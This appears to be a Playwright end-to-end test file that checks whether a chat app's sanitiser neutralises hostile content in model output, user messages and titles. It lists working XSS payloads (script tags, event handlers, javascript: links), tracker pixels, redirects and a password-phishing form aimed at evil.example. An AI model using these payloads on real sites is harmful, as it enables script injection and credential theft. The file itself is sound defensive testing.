"""Promises about text that was written to do harm: from the user, from the model, in titles."""

import pytest
from playwright.sync_api import expect

from e2e.chat_page import ChatPage
from e2e.rest import Rest
from e2e.scripted_engine import ScriptedEngine

pytestmark = pytest.mark.chromium

HOSTILE = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "<svg><animate onbegin='window.harmed=1' attributeName=x dur=1s></svg>",
    "[click](javascript:window.harmed=1)",
    "<a href='javascript:window.harmed=1'>click</a>",
    "![remote](https://tracker.example/pixel.png)",
    "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>covered</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1></style></mglyph></table></mtext></math>",
    "```html\n<script>window.harmed = 1</script>\n```",
    "<details open ontoggle='window.harmed = 1'><summary>s</summary></details>",
    "<video src='https://tracker.example/v.mp4' autoplay></video>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0; url=https://evil.example'>",
    "<textarea autofocus onfocus='window.harmed=1'></textarea>",
]
PAYLOAD = "\n\n".join(HOSTILE) + "\n\nThe end of it."


def assert_unharmed(tab: ChatPage) -> None:
    """See that nothing ran, nothing covers the page, and no link or form leads where it should not.

    Requests to other hosts and policy violations are seen by the tab's witness.
    """
    assert tab.page.evaluate("window.harmed") is None
    found = tab.page.evaluate(
        """() => [...document.querySelectorAll('[data-testid=messages] *')].flatMap((node) => {
          const bad = ['SCRIPT', 'IFRAME', 'STYLE', 'FORM', 'BASE', 'META', 'VIDEO', 'OBJECT', 'EMBED', 'INPUT'];
          const handlers = node.getAttributeNames().filter((name) => name.startsWith('on'));
          const href = node.getAttribute('href') ?? '';
          if (bad.includes(node.tagName) && node.getAttribute('type') !== 'checkbox') return [node.outerHTML];
          if (handlers.length || /^\\s*(javascript|data|vbscript):/i.test(href)) return [node.outerHTML];
          return getComputedStyle(node).position === 'fixed' ? [node.outerHTML] : [];
        })"""
    )
    assert found == []
    expect(tab.composer).to_be_enabled()
    tab.composer.click(trial=True)


@pytest.mark.parametrize("tokens", ["whole", "character by character"])
def test_what_the_model_writes_does_nothing(tab: ChatPage, engine: ScriptedEngine, tokens: str) -> None:
    # The sanitiser reads the text as a document that is never shown; the browser reports what it blocks in there.
    tab.witness.expect("style-src", "base-uri|base URI")
    engine.answer(reasoning=PAYLOAD, content=[PAYLOAD] if tokens == "whole" else list(PAYLOAD))

    tab.send("Harm me")
    expect(tab.answer).to_have_attribute("data-status", "completed")
    expect(tab.content).to_contain_text("The end of it.")
    tab.answer.get_by_test_id("thinking").locator("summary, button").first.click()
    expect(tab.answer.get_by_test_id("thinking")).to_contain_text("The end of it.")

    assert_unharmed(tab)


def test_what_the_user_writes_is_shown_as_it_was_written(tab: ChatPage, engine: ScriptedEngine) -> None:
    tab.send(PAYLOAD)
    expect(tab.answer).to_have_attribute("data-status", "completed")

    expect(tab.question).to_contain_text("<script>window.harmed = 1</script>")
    assert_unharmed(tab)


def test_titles_and_search_hits_are_text(tab: ChatPage, rest: Rest, engine: ScriptedEngine) -> None:
    chat = rest.new_chat(title="<img src=x onerror='window.harmed=1'> title")
    rest.ask("<img src=x onerror='window.harmed=1'> needle <b>bold</b>", chat=chat)

    expect(tab.chat(chat["id"])).to_contain_text("<img src=x")
    tab.hook("chat-search").fill("needle")

    hit = tab.page.locator("mark").first
    expect(hit).to_have_text("needle")
    expect(tab.page.get_by_text("<b>bold</b>").first).to_be_visible()
    assert_unharmed(tab)


@pytest.mark.parametrize(
    "text", ["[DONE]", "data: {}", '42["run.ended",{}]', "<|im_end|>", "<think>", "</think>"]
)
def test_text_that_looks_like_control_is_text(
    tab: ChatPage, engine: ScriptedEngine, rest: Rest, text: str
) -> None:
    engine.answer(content=["Before ", f"`{text}`", " after"])

    tab.send(text)

    expect(tab.answer).to_have_attribute("data-status", "completed")
    expect(tab.question).to_contain_text(text)
    expect(tab.content).to_have_text(f"Before {text} after")
    stored = [message["content"] for message in rest.chat(tab.chat_id)["messages"]]
    assert stored == [text, f"Before `{text}` after"]
